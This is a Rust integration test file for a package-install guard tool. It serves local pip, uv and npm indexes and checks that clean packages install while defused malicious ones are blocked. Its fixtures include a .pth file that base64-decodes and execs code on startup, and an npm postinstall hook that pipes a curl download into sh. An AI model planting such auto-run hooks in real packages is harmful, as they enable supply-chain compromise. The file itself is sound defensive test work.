//! End-to-end tests of `assay guard` against package indexes started by the test on
//! 127.0.0.1: a PEP 503 simple index for pip and an npm-registry-shaped server for npm.
//! A clean package is installed into a fresh venv / `node_modules`; harmless
//! reproductions of malicious packages are blocked with exit 1 and nothing installed.
//!
//! `uv pip install` is guarded the same way (pip downloads, uv installs the checked files).
//!
//! The sub-tests skip, with a printed reason, only when `python3 -m venv`, `npm` or `uv`
//! (`$ASSAY_TEST_UV`, which `.ci/run` sets) is absent. No test reaches the internet:
//! pip and uv get `--index-url` of the local server, npm `--registry` of the local
//! server and a private user config.
#![allow(clippy::unwrap_used, missing_docs)]

use assert_cmd::Command;
use base64::Engine as _;
use base64::engine::general_purpose::{STANDARD, URL_SAFE_NO_PAD};
use sha2::{Digest, Sha256, Sha512};
use std::collections::HashMap;
use std::io::{Cursor, Write};
use std::path::{Path, PathBuf};
use std::sync::{Arc, Mutex};

// ------------------------------------------------------------------ the local server

mod common;

/// path → (content type, body); a `json:PATH` entry answers PATH when the request's
/// `Accept` asks for PEP 691 JSON. The query string is ignored; every other path is 404.
type Routes = Arc<Mutex<HashMap<String, (String, Vec<u8>)>>>;

struct Server {
    http: common::Server,
    routes: Routes,
}

impl Server {
    fn start() -> Server {
        let routes: Routes = Arc::default();
        let r = routes.clone();
        let http = common::Server::start(move |req| {
            let wants_json = req
                .header("accept")
                .is_some_and(|a| a.contains("application/vnd.pypi.simple.v1+json"));
            let path = req.path.split('?').next().unwrap_or(&req.path);
            let r = r.lock().unwrap();
            let json = wants_json.then(|| r.get(&format!("json:{path}"))).flatten();
            match json.or_else(|| r.get(path)) {
                Some((ctype, body)) => common::Response::new(200, ctype, body.clone()),
                None => common::Response::not_found(),
            }
        });
        Server { http, routes }
    }

    fn url(&self) -> String {
        self.http.url()
    }

    fn add(&self, path: &str, content_type: &str, body: Vec<u8>) {
        self.routes
            .lock()
            .unwrap()
            .insert(path.to_owned(), (content_type.to_owned(), body));
    }
}

// ------------------------------------------------------------------ fixture builders

fn record_hash(data: &[u8]) -> String {
    format!("sha256={}", URL_SAFE_NO_PAD.encode(Sha256::digest(data)))
}

/// A pure-Python wheel with `files` plus METADATA, WHEEL and a correct RECORD; returns
/// (file name, bytes).
fn wheel(name: &str, version: &str, files: &[(&str, &[u8])]) -> (String, Vec<u8>) {
    wheel_requiring(name, version, &[], files)
}

/// [`wheel`] with `Requires-Dist` lines.
fn wheel_requiring(
    name: &str,
    version: &str,
    requires: &[&str],
    files: &[(&str, &[u8])],
) -> (String, Vec<u8>) {
    let dist = name.replace('-', "_");
    let info = format!("{dist}-{version}.dist-info");
    let mut metadata = format!("Metadata-Version: 2.1\nName: {name}\nVersion: {version}\n");
    for r in requires {
        metadata.push_str(&format!("Requires-Dist: {r}\n"));
    }
    let wheel =
        "Wheel-Version: 1.0\nGenerator: assay-tests\nRoot-Is-Purelib: true\nTag: py3-none-any\n";
    let mut all: Vec<(String, Vec<u8>)> = files
        .iter()
        .map(|(p, d)| ((*p).to_owned(), d.to_vec()))
        .collect();
    all.push((format!("{info}/METADATA"), metadata.into_bytes()));
    all.push((format!("{info}/WHEEL"), wheel.as_bytes().to_vec()));
    let mut record = String::new();
    for (p, d) in &all {
        record.push_str(&format!("{p},{},{}\n", record_hash(d), d.len()));
    }
    record.push_str(&format!("{info}/RECORD,,\n"));
    all.push((format!("{info}/RECORD"), record.into_bytes()));
    let mut w = zip::ZipWriter::new(Cursor::new(Vec::new()));
    let opts = zip::write::SimpleFileOptions::default()
        .compression_method(zip::CompressionMethod::Deflated);
    for (p, d) in &all {
        w.start_file(p.as_str(), opts).unwrap();
        w.write_all(d).unwrap();
    }
    (
        format!("{dist}-{version}-py3-none-any.whl"),
        w.finish().unwrap().into_inner(),
    )
}

/// A gzip tar of `files` (paths as given).
fn tgz(files: &[(&str, &[u8])]) -> Vec<u8> {
    let mut b = tar::Builder::new(Vec::new());
    for (p, d) in files {
        let mut h = tar::Header::new_gnu();
        h.set_path(p).unwrap();
        h.set_size(d.len() as u64);
        h.set_mode(0o644);
        h.set_mtime(0);
        h.set_cksum();
        b.append(&h, *d).unwrap();
    }
    let mut gz = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::fast());
    gz.write_all(&b.into_inner().unwrap()).unwrap();
    gz.finish().unwrap()
}

/// Publish `files` (file name, bytes) of project `name` on the PEP 503 simple index and,
/// with `json`, also as a PEP 691 JSON page (served to clients that ask for it).
fn publish_pypi(server: &Server, name: &str, files: &[(String, Vec<u8>)], json: bool) {
    let mut page = String::from("<!DOCTYPE html><html><body>\n");
    let mut json_files = Vec::new();
    for (f, data) in files {
        let sha = hex(&Sha256::digest(data));
        json_files.push(serde_json::json!({
            "filename": f, "url": format!("/files/{f}"), "hashes": {"sha256": sha},
        }));
        page.push_str(&format!(
            "<a href=\"/files/{f}#sha256={sha}\">{f}</a><br/>\n"
        ));
        server.add(
            &format!("/files/{f}"),
            "application/octet-stream",
            data.clone(),
        );
    }
    page.push_str("</body></html>\n");
    server.add(&format!("/simple/{name}/"), "text/html", page.into_bytes());
    if json {
        let doc = serde_json::json!({
            "meta": {"api-version": "1.0"}, "name": name, "files": json_files,
        });
        server.add(
            &format!("json:/simple/{name}/"),
            "application/vnd.pypi.simple.v1+json",
            doc.to_string().into_bytes(),
        );
    }
}

/// Publish an npm package version: the packument at `/<name>` and the tarball.
fn publish_npm(
    server: &Server,
    name: &str,
    version: &str,
    package_json: &str,
    extra: &[(&str, &[u8])],
) {
    let mut files: Vec<(&str, &[u8])> = vec![("package/package.json", package_json.as_bytes())];
    files.extend_from_slice(extra);
    let tarball = tgz(&files);
    let integrity = format!("sha512-{}", STANDARD.encode(Sha512::digest(&tarball)));
    let tar_path = format!("/{name}/-/{name}-{version}.tgz");
    let packument = serde_json::json!({
        "name": name,
        "dist-tags": {"latest": version},
        "versions": {version: {
            "name": name,
            "version": version,
            "dist": {"tarball": format!("{}{tar_path}", server.url()), "integrity": integrity},
        }},
    });
    server.add(
        &format!("/{name}"),
        "application/json",
        packument.to_string().into_bytes(),
    );
    server.add(&tar_path, "application/octet-stream", tarball);
}

fn hex(b: &[u8]) -> String {
    b.iter().map(|x| format!("{x:02x}")).collect()
}

/// A fixture OSV index in `dir/cache` naming `(ecosystem, name, version)` as malicious.
fn mal_db(dir: &Path, ecosystem: &str, name: &str, version: &str) -> PathBuf {
    let osv = dir.join("osv");
    std::fs::create_dir_all(&osv).unwrap();
    let rec = serde_json::json!({
        "schema_version": "1.5.0",
        "id": "MAL-2099-0001",
        "modified": "2026-11-01T00:00:00Z",
        "published": "2026-11-01T00:00:00Z",
        "summary": format!("Malicious code in {name} ({ecosystem})"),
        "details": "assay test fixture",
        "affected": [{"package": {"ecosystem": ecosystem, "name": name}, "versions": [version]}],
    });
    std::fs::write(osv.join("MAL-2099-0001.json"), rec.to_string()).unwrap();
    let db = dir.join("osv.sqlite3");
    let o = assay(dir)
        .args(["db", "update", "--from"])
        .arg(&osv)
        .arg("--db")
        .arg(&db)
        .output()
        .unwrap();
    assert!(o.status.success(), "{}", String::from_utf8_lossy(&o.stderr));
    db
}

fn assay(cwd: &Path) -> Command {
    let mut c = Command::cargo_bin("assay").unwrap();
    c.current_dir(cwd)
        .env("ASSAY_CACHE_DIR", cwd.join("assay-cache"))
        .env_remove("XDG_CACHE_HOME")
        .env("NO_COLOR", "1")
        .env("PIP_DISABLE_PIP_VERSION_CHECK", "1")
        .env("PIP_NO_CACHE_DIR", "1")
        .env("PIP_NO_INPUT", "1")
        .env_remove("PIP_INDEX_URL")
        .env_remove("PIP_EXTRA_INDEX_URL")
        .env_remove("PIP_FIND_LINKS")
        .env("PIP_CONFIG_FILE", "/dev/null");
    c
}

fn run(c: &mut Command) -> (i32, String, String) {
    let o = c.output().unwrap();
    (
        o.status.code().unwrap_or(-1),
        String::from_utf8_lossy(&o.stdout).into_owned(),
        String::from_utf8_lossy(&o.stderr).into_owned(),
    )
}

// ------------------------------------------------------------------ uv

/// The `uv` program: `$ASSAY_TEST_UV` (`.ci/run` installs uv into a tools venv and sets
/// it), else `uv` on PATH; `None` (with the reason printed) when neither runs.
fn uv_program() -> Option<PathBuf> {
    let candidate = std::env::var_os("ASSAY_TEST_UV")
        .map(PathBuf::from)
        .unwrap_or_else(|| PathBuf::from("uv"));
    let ok = std::process::Command::new(&candidate)
        .arg("--version")
        .output()
        .is_ok_and(|o| o.status.success());
    if !ok {
        println!("SKIPPED: uv is not available (set ASSAY_TEST_UV or put uv on PATH)");
        return None;
    }
    Some(candidate)
}

#[test]
fn uv_pip_install_is_guarded_like_pip() {
    let Some(uv) = uv_program() else {
        return;
    };
    let t = tempfile::tempdir().unwrap();
    let Some((python, site)) = venv(t.path()) else {
        return;
    };
    let server = pip_index(false);
    let index = format!("{}/simple/", server.url());
    let guard = |pkg: &str| {
        run(assay(t.path())
            .env("UV_NO_CACHE", "1")
            .env("UV_NO_CONFIG", "1")
            .env_remove("UV_INDEX_URL")
            .env_remove("UV_EXTRA_INDEX_URL")
            .env_remove("VIRTUAL_ENV")
            .args(["guard", "--python"])
            .arg(&python)
            .arg("--")
            .arg(&uv)
            .args(["pip", "install", "--python"])
            .arg(&python)
            .args(["--index-url", &index, pkg]))
    };
    // The malicious package is blocked and nothing is installed.
    let (code, out, err) = guard("evil-pkg");
    assert_eq!(code, 1, "{out}\n{err}");
    assert!(err.contains("not installing"), "{err}");
    assert!(!site.join("evil_init.pth").exists());
    assert!(!site.join("evil_pkg").exists());
    // The clean one is installed by uv from the checked file.
    let (code, out, err) = guard("clean-pkg");
    assert_eq!(code, 0, "{out}\n{err}");
    assert!(
        err.contains("pip install --no-index"),
        "uv installs offline: {err}"
    );
    assert!(site.join("clean_pkg/__init__.py").is_file(), "{err}");
}

// ------------------------------------------------------------------ pip

/// A fresh venv in `dir/venv`, or `None` (with the reason printed) when `python3 -m venv`
/// is unavailable.
fn venv(dir: &Path) -> Option<(PathBuf, PathBuf)> {
    let v = dir.join("venv");
    let ok = std::process::Command::new("python3")
        .args(["-m", "venv"])
        .arg(&v)
        .status()
        .is_ok_and(|s| s.success());
    if !ok {
        println!("SKIPPED: `python3 -m venv` is not available");
        return None;
    }
    let python = v.join("bin/python");
    let out = std::process::Command::new(&python)
        .args([
            "-c",
            "import sysconfig; print(sysconfig.get_paths()['purelib'])",
        ])
        .output()
        .unwrap();
    let site = PathBuf::from(String::from_utf8_lossy(&out.stdout).trim());
    Some((python, site))
}

/// The pip test index; `json`: also PEP 691 pages.
fn pip_index(json: bool) -> Server {
    let server = Server::start();
    let clean = wheel(
        "clean-pkg",
        "1.0.0",
        &[(
            "clean_pkg/__init__.py",
            b"def squash(s):\n    return \" \".join(s.split())\n",
        )],
    );
    publish_pypi(&server, "clean-pkg", &[clean], json);
    // The LiteLLM 1.82.8 shape: a root `.pth` that spawns Python to decode and exec code,
    // with the payload replaced by `print(1)`.
    let pth = b"import subprocess,sys; subprocess.Popen([sys.executable,\"-c\",\"import base64;exec(base64.b64decode('cHJpbnQoMSk='))\"])\n";
    let evil = wheel(
        "evil-pkg",
        "1.0.0",
        &[
            ("evil_pkg/__init__.py", b"VERSION = '1.0.0'\n"),
            ("evil_init.pth", pth),
        ],
    );
    publish_pypi(&server, "evil-pkg", &[evil], json);
    // An application that needs clean-pkg: the whole resolved set is checked and installed.
    let app = wheel_requiring(
        "app-pkg",
        "2.0.0",
        &["clean-pkg>=1"],
        &[("app_pkg/__init__.py", b"from clean_pkg import squash\n")],
    );
    publish_pypi(&server, "app-pkg", &[app], json);
    server
}

#[test]
fn pip_clean_package_installs_into_a_fresh_venv() {
    let t = tempfile::tempdir().unwrap();
    let Some((python, site)) = venv(t.path()) else {
        return;
    };
    let server = pip_index(false);
    let index = format!("{}/simple/", server.url());
    let (code, out, err) = run(assay(t.path()).args(["guard", "--"]).arg(&python).args([
        "-m",
        "pip",
        "install",
        "--index-url",
        &index,
        "clean-pkg",
    ]));
    assert_eq!(code, 0, "{out}\n{err}");
    assert!(out.contains("CLEAN"), "{out}");
    assert!(site.join("clean_pkg/__init__.py").is_file(), "{err}");
    assert!(site.join("clean_pkg-1.0.0.dist-info/RECORD").is_file());
}

#[test]
fn pip_requirements_file_installs_the_resolved_set_from_the_checked_files() {
    let t = tempfile::tempdir().unwrap();
    let Some((python, site)) = venv(t.path()) else {
        return;
    };
    let server = pip_index(true);
    let index = format!("{}/simple/", server.url());
    std::fs::write(
        t.path().join("requirements.txt"),
        format!("--index-url {index}\napp-pkg==2.0.0\n"),
    )
    .unwrap();
    let keep = t.path().join("kept");
    let (code, out, err) = run(assay(t.path())
        .args(["guard", "-f", "json", "--keep"])
        .arg(&keep)
        .arg("--")
        .arg(&python)
        .args(["-m", "pip", "install", "-r", "requirements.txt"]));
    assert_eq!(code, 0, "{out}\n{err}");
    let v: serde_json::Value = serde_json::from_str(&out).unwrap();
    let arts = v["artifacts"].as_array().unwrap();
    assert_eq!(arts.len(), 3, "the resolved set + 2 wheels: {out}");
    assert_eq!(arts[0]["path"], "resolved packages (pip)");
    let purls: Vec<&str> = arts[0]["packages"]
        .as_array()
        .unwrap()
        .iter()
        .map(|p| p.as_str().unwrap())
        .collect();
    assert_eq!(
        purls,
        ["pkg:pypi/app-pkg@2.0.0", "pkg:pypi/clean-pkg@1.0.0"],
        "{out}"
    );
    assert!(site.join("app_pkg/__init__.py").is_file(), "{err}");
    assert!(site.join("clean_pkg/__init__.py").is_file(), "{err}");
    assert!(keep.join("app_pkg-2.0.0-py3-none-any.whl").is_file());
}

#[test]
fn pip_malicious_package_is_blocked_and_nothing_installed() {
    let t = tempfile::tempdir().unwrap();
    let Some((python, site)) = venv(t.path()) else {
        return;
    };
    let server = pip_index(false);
    let index = format!("{}/simple/", server.url());
    let (code, out, err) = run(assay(t.path())
        .args(["guard", "-f", "json", "--"])
        .arg(&python)
        .args([
            "-m",
            "pip",
            "install",
            "-i",
            &index,
            "evil-pkg",
            "clean-pkg",
        ]));
    assert_eq!(code, 1, "{out}\n{err}");
    let v: serde_json::Value = serde_json::from_str(&out).unwrap();
    let arts = v["artifacts"].as_array().unwrap();
    let evil = arts
        .iter()
        .find(|a| a["name"] == "evil-pkg" || a["name"] == "evil_pkg")
        .unwrap();
    assert_eq!(evil["verdict"], "malicious");
    assert!(
        evil["findings"]
            .as_array()
            .unwrap()
            .iter()
            .any(|f| f["rule"]["code"] == "PKG001"),
        "{evil}"
    );
    assert!(err.contains("not installing"), "{err}");
    assert!(!site.join("evil_init.pth").exists());
    assert!(!site.join("evil_pkg").exists());
    assert!(!site.join("clean_pkg").exists(), "all or nothing");
}

#[test]
fn pip_package_named_by_a_mal_advisory_is_blocked() {
    let t = tempfile::tempdir().unwrap();
    let Some((python, site)) = venv(t.path()) else {
        return;
    };
    let db = mal_db(t.path(), "PyPI", "clean-pkg", "1.0.0");
    let server = pip_index(true);
    let index = format!("{}/simple/", server.url());
    let (code, out, err) = run(assay(t.path())
        .args(["guard", "--db"])
        .arg(&db)
        .arg("--")
        .arg(&python)
        .args(["-m", "pip", "install", "--index-url", &index, "clean-pkg"]));
    assert_eq!(code, 1, "{out}\n{err}");
    assert!(out.contains("DEP001"), "{out}");
    assert!(out.contains("MAL-2099-0001"), "{out}");
    assert!(!site.join("clean_pkg").exists());
}

#[test]
fn pip_sdist_only_requirement_is_refused_without_running_it() {
    let t = tempfile::tempdir().unwrap();
    let Some((python, site)) = venv(t.path()) else {
        return;
    };
    let server = pip_index(false);
    let marker = t.path().join("setup-py-ran");
    let setup = format!(
        "open({:?}, 'w').write('ran')\nfrom setuptools import setup\nsetup(name='sdist-only', version='1.0')\n",
        marker.display().to_string()
    );
    let pkg_info = "Metadata-Version: 2.1\nName: sdist-only\nVersion: 1.0\n";
    let sdist = tgz(&[
        ("sdist-only-1.0/PKG-INFO", pkg_info.as_bytes()),
        ("sdist-only-1.0/setup.py", setup.as_bytes()),
    ]);
    publish_pypi(
        &server,
        "sdist-only",
        &[("sdist-only-1.0.tar.gz".to_owned(), sdist)],
        false,
    );
    let index = format!("{}/simple/", server.url());
    let (code, out, err) = run(assay(t.path()).args(["guard", "--"]).arg(&python).args([
        "-m",
        "pip",
        "install",
        "--index-url",
        &index,
        "sdist-only",
    ]));
    assert_eq!(code, 2, "{out}\n{err}");
    assert!(err.contains("--allow-sdist-build"), "{err}");
    assert!(err.contains("sdist-only"), "{err}");
    assert!(!marker.exists(), "setup.py must not run");
    assert!(!site.join("sdist_only-1.0.dist-info").exists());
}

#[test]
fn pip_direct_references_and_unknown_options_are_refused() {
    let t = tempfile::tempdir().unwrap();
    std::fs::write(
        t.path().join("requirements.txt"),
        "clean-pkg==1.0.0\n-e git+https://example.invalid/x.git#egg=x\n",
    )
    .unwrap();
    let (code, _, err) =
        run(assay(t.path()).args(["guard", "--", "pip", "install", "-r", "requirements.txt"]));
    assert_eq!(code, 2, "{err}");
    assert!(err.contains("requirements.txt:2"), "{err}");
    assert!(err.contains("--allow-sdist-build"), "{err}");
    let (code, _, err) =
        run(assay(t.path()).args(["guard", "--", "pip", "install", "--frobnicate", "clean-pkg"]));
    assert_eq!(code, 2, "{err}");
    assert!(err.contains("--frobnicate"), "{err}");
    let (code, _, err) = run(assay(t.path()).args(["guard", "--", "cargo", "install", "x"]));
    assert_eq!(code, 2, "{err}");
    assert!(err.contains("not a supported installer command"), "{err}");
}

// ------------------------------------------------------------------ npm

fn npm_available() -> bool {
    let ok = std::process::Command::new("npm")
        .arg("--version")
        .output()
        .is_ok_and(|o| o.status.success());
    if !ok {
        println!("SKIPPED: npm is not available");
    }
    ok
}

fn npm_registry() -> Server {
    let server = Server::start();
    publish_npm(
        &server,
        "clean-npm",
        "1.0.0",
        r#"{"name":"clean-npm","version":"1.0.0","main":"index.js","scripts":{"postinstall":"node scripts/build.js"}}"#,
        &[
            ("package/index.js", b"module.exports = (s) => s.trim();\n"),
            ("package/scripts/build.js", b"console.log('built');\n"),
        ],
    );
    publish_npm(
        &server,
        "evil-npm",
        "1.0.0",
        r#"{"name":"evil-npm","version":"1.0.0","main":"index.js"}"#,
        &[("package/index.js", b"module.exports = 1;\n")],
    );
    server
}

/// A project dir with a package.json and an npm user config that points nowhere else.
fn npm_project(dir: &Path) -> PathBuf {
    let p = dir.join("proj");
    std::fs::create_dir_all(&p).unwrap();
    std::fs::write(
        p.join("package.json"),
        r#"{"name":"proj","version":"1.0.0","private":true}"#,
    )
    .unwrap();
    std::fs::write(dir.join("npmrc"), "").unwrap();
    p
}

fn npm_guard(
    dir: &Path,
    proj: &Path,
    server: &Server,
    extra: &[&str],
    spec: &str,
) -> (i32, String, String) {
    let registry = format!("{}/", server.url());
    run(assay(proj)
        .env("npm_config_userconfig", dir.join("npmrc"))
        .env("npm_config_cache", dir.join("user-npm-cache"))
        .env("npm_config_update_notifier", "false")
        .env("npm_config_fetch_retries", "0")
        .arg("guard")
        .args(extra)
        .args(["--", "npm", "install", "--registry", &registry, spec]))
}

#[test]
fn npm_clean_package_installs_into_node_modules() {
    if !npm_available() {
        return;
    }
    let t = tempfile::tempdir().unwrap();
    let proj = npm_project(t.path());
    let server = npm_registry();
    let (code, out, err) = npm_guard(t.path(), &proj, &server, &[], "clean-npm");
    assert_eq!(code, 0, "{out}\n{err}");
    assert!(
        proj.join("node_modules/clean-npm/index.js").is_file(),
        "{err}"
    );
    let pj = std::fs::read_to_string(proj.join("package.json")).unwrap();
    assert!(pj.contains("clean-npm"), "{pj}");
}

#[test]
fn npm_package_named_by_a_mal_advisory_is_blocked() {
    if !npm_available() {
        return;
    }
    let t = tempfile::tempdir().unwrap();
    let proj = npm_project(t.path());
    let db = mal_db(t.path(), "npm", "evil-npm", "1.0.0");
    let server = npm_registry();
    let db = db.display().to_string();
    let (code, out, err) = npm_guard(t.path(), &proj, &server, &["--db", &db], "evil-npm");
    assert_eq!(code, 1, "{out}\n{err}");
    assert!(out.contains("MAL-2099-0001"), "{out}");
    assert!(!proj.join("node_modules").exists());
    let pj = std::fs::read_to_string(proj.join("package.json")).unwrap();
    assert!(!pj.contains("evil-npm"), "package.json untouched: {pj}");
}

#[test]
fn npm_install_script_that_downloads_and_runs_is_blocked() {
    if !npm_available() {
        return;
    }
    let t = tempfile::tempdir().unwrap();
    let proj = npm_project(t.path());
    let server = npm_registry();
    publish_npm(
        &server,
        "hook-npm",
        "1.0.0",
        r#"{"name":"hook-npm","version":"1.0.0","scripts":{"postinstall":"curl -s https://example.invalid/x.sh | sh"}}"#,
        &[("package/index.js", b"module.exports = 1;\n")],
    );
    let (code, out, err) = npm_guard(t.path(), &proj, &server, &[], "hook-npm");
    assert_eq!(code, 1, "{out}\n{err}");
    assert!(out.contains("PKG012"), "{out}");
    assert!(out.contains("MALICIOUS"), "{out}");
    assert!(!proj.join("node_modules").exists());
    assert!(!proj.join("package-lock.json").exists());
}

#[test]
fn npm_tarball_that_differs_from_the_lockfile_is_refused() {
    if !npm_available() {
        return;
    }
    let t = tempfile::tempdir().unwrap();
    let proj = npm_project(t.path());
    let server = npm_registry();
    // The packument promises one tarball; the server hands out another.
    publish_npm(
        &server,
        "swap-npm",
        "1.0.0",
        r#"{"name":"swap-npm","version":"1.0.0"}"#,
        &[("package/index.js", b"module.exports = 1;\n")],
    );
    let other = tgz(&[(
        "package/package.json",
        br#"{"name":"swap-npm","version":"1.0.0","scripts":{"postinstall":"echo assay-canary"}}"#,
    )]);
    server.add(
        "/swap-npm/-/swap-npm-1.0.0.tgz",
        "application/octet-stream",
        other,
    );
    let (code, out, err) = npm_guard(t.path(), &proj, &server, &[], "swap-npm");
    assert_eq!(code, 2, "{out}\n{err}");
    assert!(err.contains("integrity"), "{err}");
    assert!(!proj.join("node_modules").exists());
}
